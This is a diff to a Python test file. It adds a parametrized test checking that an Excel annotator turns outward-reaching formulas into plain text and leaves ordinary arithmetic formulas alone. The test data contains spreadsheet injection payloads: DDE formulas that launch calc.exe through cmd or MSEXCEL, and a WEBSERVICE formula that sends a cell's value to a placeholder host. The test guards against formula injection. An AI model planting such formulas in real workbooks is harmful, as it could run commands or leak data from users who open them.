@@ -11,6 +11,7 @@ import openpyxl
 import pytest
 import xlsxwriter
 from openpyxl.comments import Comment
+from openpyxl.worksheet.formula import ArrayFormula
 
 from tonghop.domain.reading import AnnotationJob, Mark
 from tonghop.reading.annotator import Annotator
@@ -112,6 +113,29 @@ def test_what_we_write_is_text_whatever_it_begins_with(
     cells = [cell for row in book["Cần sửa"].iter_rows() for cell in row if cell.value is not None]
     assert {cell.data_type for cell in cells} == {"s"}
     assert any(str(cell.value).endswith(text.strip("\x00\x1b")) for cell in cells)
+
+
+@pytest.mark.parametrize(
+    ("formula", "is_kept"),
+    [
+        ("=cmd|'/c calc'!A0", False),
+        ("=MSEXCEL|'\\..\\..\\calc.exe'!''", False),
+        ('=IFERROR(WEBSERVICE("http://x/?"&B3),1)', False),
+        ('=rtd("a",,"b")', False),
+        ("=SUM(B3:C3)/2", True),
+        ("=B3*100/C3", True),
+    ],
+)
+def test_a_formula_that_reaches_out_comes_back_as_text(
+    annotator: Annotator, tmp_path: Path, formula: str, is_kept: bool
+) -> None:
+    book = openpyxl.load_workbook(io.BytesIO(_book(tmp_path / "a.xlsx")))
+    book["BC"]["E3"] = formula
+    book["BC"]["F3"] = ArrayFormula("F3:F4", formula)
+    book.save(tmp_path / "b.xlsx")
+    sheet = _opened(annotator.annotate(_job((tmp_path / "b.xlsx").read_bytes(), [_mark("C3")])))["BC"]
+    assert {sheet[cell].data_type for cell in ("E3", "F3")} == ({"f"} if is_kept else {"s"})
+    assert sheet["E3"].value == formula
 
 
 def test_a_csv_comes_back_as_a_workbook_with_its_cells_at_their_places_and_no_formula(
